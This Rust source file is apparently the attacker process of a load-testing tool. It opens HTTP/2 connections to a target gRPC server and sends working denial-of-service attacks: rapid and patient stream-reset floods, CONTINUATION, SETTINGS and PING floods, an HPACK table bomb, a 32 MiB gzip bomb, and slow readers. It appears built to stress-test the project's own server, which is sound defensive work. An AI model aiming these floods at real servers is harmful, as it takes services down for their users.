//! The attacker, a separate process: `loadtest attack`, which `flood` starts. It does one thing on a few connections,
//! opens a new connection if one is closed, and reports how they ended. Must not depend on the effect on others.

use std::io::Write as _;
use std::net::SocketAddr;
use std::time::Duration;

use flate2::Compression;
use flate2::write::GzEncoder;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep};

use super::bodies::{self, Bodies};
use super::crowd;
use super::hammer;
use super::kind::Kind;
use super::wire::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, End, HEADERS, INITIAL_WINDOW, Line, PING, RST_STREAM,
    SETTINGS, Told, WINDOW_UPDATE, frame, head, message, setting,
};

/// Frames, or pairs of frames, per write.
const BATCH: u32 = 500;
/// Resets that the patient attacker sends before it waits for a PING acknowledgement: half of what closes a connection.
const DARED: u32 = 500;
/// Concurrent calls with large messages: as many as fit into the connection's window.
const LARGE: u32 = 8;
/// Bytes of a large message that are sent: no reply needs more, and they fit into a stream's window before SETTINGS are
/// acknowledged.
const SENT: usize = 48 << 10;
/// What a compressed message decompresses to.
const UNFOLDED: usize = 32 << 20;
const FRAME: usize = 16 << 10;
/// Concurrent calls of a client that reads nothing.
const UNREAD: u32 = 1_000;
/// Pace at which those calls start, so that their rate has no effect of its own.
const STEP: (u32, Duration) = (5, Duration::from_millis(10));
const CHECK: &str = "/orders.v1.OrderService/CheckInventory";
const LIST: &str = "/inventory.v1.InventoryService/ListStock";
/// `page_size: 100`.
const PAGE: &[u8] = &[0x08, 100];

/// Options of `loadtest attack`
#[derive(clap::Args)]
pub(crate) struct Attack {
    target: SocketAddr,
    #[arg(long, value_enum)]
    kind: Kind,
    #[arg(long)]
    seconds: f64,
    /// Concurrent connections
    #[arg(long)]
    connections: usize,
    /// The server's limit on the size of a request, in bytes
    #[arg(long)]
    most: usize,
}

/// Runs the attack, and prints how the connections ended.
pub(crate) async fn run(options: Attack) -> anyhow::Result<bool> {
    crowd::raise()?;
    let end = Instant::now() + Duration::from_secs_f64(options.seconds);
    let told = if options.kind.counts_heads() {
        crowd::run(options.kind, options.target, options.connections, end).await?
    } else {
        let plan = Plan::of(&options);
        let mut attackers = JoinSet::new();
        for _ in 0..options.connections {
            let (plan, target) = (plan.clone(), options.target);
            match options.kind {
                Kind::MetricsHammered | Kind::ConsoleHammered => {
                    attackers.spawn(hammer::pages(options.kind, target, end))
                }
                Kind::Products => attackers.spawn(hammer::products(target, end)),
                _ => attackers.spawn(attack(plan, target, end)),
            };
        }
        attackers.join_all().await.into_iter().fold(Told::default(), |mut all, told| {
            all.add(told);
            all
        })
    };
    cli::say!("{}", serde_json::to_string(&told)?);
    Ok(true)
}

async fn attack(plan: Plan, target: SocketAddr, end: Instant) -> Told {
    let mut told = Told::default();
    while Instant::now() < end {
        let Ok(mut line) = Line::open(target, &plan.settings).await else {
            told.cut += 1;
            sleep(hammer::PAUSE).await;
            continue;
        };
        told.made += 1;
        let ended = plan.assault(&mut line, end, &mut told.sent).await;
        told.answered += line.answers();
        told.bytes += line.wrote;
        match ended {
            Ok(()) => match line.told() {
                Some(code) => *told.goodbyes.entry(code).or_default() += 1,
                None => told.lasted += 1,
            },
            Err(End::Goodbye(code)) => *told.goodbyes.entry(code).or_default() += 1,
            Err(End::Cut) => told.cut += 1,
        }
    }
    told
}

/// What to do on each connection.
#[derive(Clone)]
struct Plan {
    kind: Kind,
    connections: usize,
    bodies: Option<Bodies>,
    settings: Vec<u8>,
    /// Sent first.
    opening: Vec<u8>,
    /// Sent repeatedly.
    batch: Vec<u8>,
    /// A call's header block and message.
    block: Vec<u8>,
    message: Vec<u8>,
}

impl Plan {
    fn of(options: &Attack) -> Plan {
        let kind = options.kind;
        let one = match kind {
            Kind::Settings | Kind::SettingsUnread => frame(SETTINGS, 0, 0, &setting(INITIAL_WINDOW, 65_535)),
            Kind::Pings | Kind::PingsUnread => frame(PING, 0, 0, b"flooding"),
            Kind::Pongs => frame(PING, ACK, 0, b"flooding"),
            // A header field with a name of one letter.
            Kind::Continuation => frame(CONTINUATION, 0, 1, &[0, 1, b'a', 1, b'b']),
            // An unknown frame type, PRIORITY, and a WINDOW_UPDATE of one byte.
            Kind::Junk => {
                let priority = frame(2, 0, 1, &[0, 0, 0, 0, 9]);
                [frame(0xbb, 0, 0, b""), priority, frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])].concat()
            }
            _ => Vec::new(),
        };
        let block = match kind {
            Kind::GzipBomb => head(CHECK, &[("grpc-encoding", "gzip")]),
            Kind::SlowReaders | Kind::WindowDrip => head(LIST, &[]),
            Kind::HpackBomb => [head(CHECK, &[]), bomb()].concat(),
            _ => head(CHECK, &[]),
        };
        let message = match kind {
            Kind::GzipBomb => {
                let bytes = zipped();
                message(true, bytes.len(), &bytes)
            }
            Kind::Oversize => message(false, options.most + 1, &vec![0; SENT]),
            Kind::SlowReaders | Kind::WindowDrip => message(false, PAGE.len(), PAGE),
            _ => Vec::new(),
        };
        let opening = match kind {
            Kind::Continuation => frame(HEADERS, END_STREAM, 1, &block),
            _ => Vec::new(),
        };
        let closed = matches!(kind, Kind::SlowReaders | Kind::WindowDrip);
        let settings = if closed { setting(INITIAL_WINDOW, 0) } else { Vec::new() };
        let bodies = Bodies::of(kind, options.most);
        let (connections, batch) = (options.connections, one.repeat(BATCH as usize));
        Plan { kind, connections, bodies, settings, opening, batch, block, message }
    }

    /// Attacks until the time is over or the connection ends.
    async fn assault(&self, line: &mut Line, end: Instant, sent: &mut u64) -> Result<(), End> {
        if let Some(bodies) = &self.bodies {
            return bodies.send(line, end, sent).await;
        }
        match self.kind {
            Kind::HealthWatches => bodies::watches(line, self.connections, end, sent).await,
            Kind::WindowDrip => bodies::drip(line, |stream| self.call(stream), end, sent).await,
            Kind::RapidReset => self.reset(line, end, sent, None).await,
            Kind::PatientReset => self.reset(line, end, sent, Some(DARED)).await,
            Kind::HpackBomb => self.calls(line, end, sent, 1).await,
            Kind::GzipBomb | Kind::Oversize => self.calls(line, end, sent, LARGE).await,
            Kind::SlowReaders => self.unread(line, end, sent).await,
            _ => self.repeat(line, end, sent).await,
        }
    }

    async fn repeat(&self, line: &mut Line, end: Instant, sent: &mut u64) -> Result<(), End> {
        let read = !matches!(self.kind, Kind::SettingsUnread | Kind::PingsUnread);
        line.send(&self.opening, end, read).await?;
        while Instant::now() < end {
            if line.send(&self.batch, end, read).await? {
                *sent += u64::from(BATCH);
            }
        }
        Ok(())
    }

    /// Calls that are reset at once.
    async fn reset(
        &self,
        line: &mut Line,
        end: Instant,
        sent: &mut u64,
        patient: Option<u32>,
    ) -> Result<(), End> {
        let mut next = 1;
        for round in 1.. {
            if Instant::now() >= end {
                break;
            }
            let mut bytes = Vec::new();
            for _ in 0..patient.unwrap_or(BATCH) {
                bytes.extend(frame(HEADERS, END_HEADERS, next, &self.block));
                // CANCEL.
                bytes.extend(frame(RST_STREAM, 0, next, &[0, 0, 0, 8]));
                next += 2;
            }
            if patient.is_some() {
                bytes.extend(frame(PING, 0, 0, b"answered"));
            }
            if line.send(&bytes, end, true).await? {
                *sent += u64::from(patient.unwrap_or(BATCH));
            }
            if patient.is_some() {
                line.until(end, |seen| seen[usize::from(PING)] >= round).await?;
            }
        }
        Ok(())
    }

    /// Calls with a message, up to `most` at a time.
    async fn calls(&self, line: &mut Line, end: Instant, sent: &mut u64, most: u32) -> Result<(), End> {
        let mut next = 1;
        while Instant::now() < end {
            if !line.send(&self.call(next), end, true).await? {
                break;
            }
            (*sent, next) = (*sent + 1, next + 2);
            let open = u64::from(next / 2 + 1).saturating_sub(u64::from(most));
            line.until(end, |seen| seen[usize::from(HEADERS)] >= open).await?;
        }
        Ok(())
    }

    fn call(&self, stream: u32) -> Vec<u8> {
        if self.message.is_empty() {
            return frame(HEADERS, END_HEADERS | END_STREAM, stream, &self.block);
        }
        let mut bytes = frame(HEADERS, END_HEADERS, stream, &self.block);
        let whole = self.kind != Kind::Oversize;
        let mut parts = self.message.chunks(FRAME).peekable();
        while let Some(part) = parts.next() {
            let last = parts.peek().is_none() && whole;
            bytes.extend(frame(DATA, if last { END_STREAM } else { 0 }, stream, part));
        }
        bytes
    }

    /// As many calls as permitted, whose replies do not fit into the flow-control window.
    async fn unread(&self, line: &mut Line, end: Instant, sent: &mut u64) -> Result<(), End> {
        for number in 0..UNREAD {
            if !line.send(&self.call(2 * number + 1), end, true).await? {
                return Ok(());
            }
            *sent += 1;
            if number % STEP.0 == 0 {
                sleep(STEP.1).await;
            }
        }
        line.ended(end).await.map_or(Ok(()), Err)
    }
}

/// A header field of nearly 4,000 bytes that is added to the HPACK table, then its index, 12,000 times.
fn bomb() -> Vec<u8> {
    let mut block = vec![0x40, 1, b'x', 0x7f];
    let mut length = 3_900 - 127;
    while length >= 128 {
        block.push(u8::try_from(length % 128).unwrap_or(0) | 0x80);
        length /= 128;
    }
    block.push(u8::try_from(length).unwrap_or(0));
    block.extend(std::iter::repeat_n(b'v', 3_900));
    block.extend(std::iter::repeat_n(0xbe, 12_000));
    block
}

fn zipped() -> Vec<u8> {
    let mut zip = GzEncoder::new(Vec::new(), Compression::best());
    // Writing to memory does not fail.
    let _ = zip.write_all(&vec![0; UNFOLDED]);
    zip.finish().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use std::io::Read as _;

    use super::*;

    #[test]
    fn a_bomb_is_small_and_unfolds() {
        let bytes = zipped();
        assert!(bytes.len() <= SENT, "{}", bytes.len());
        let mut all = Vec::new();
        flate2::read::GzDecoder::new(&bytes[..]).read_to_end(&mut all).unwrap();
        assert_eq!(all.len(), UNFOLDED);
    }
}
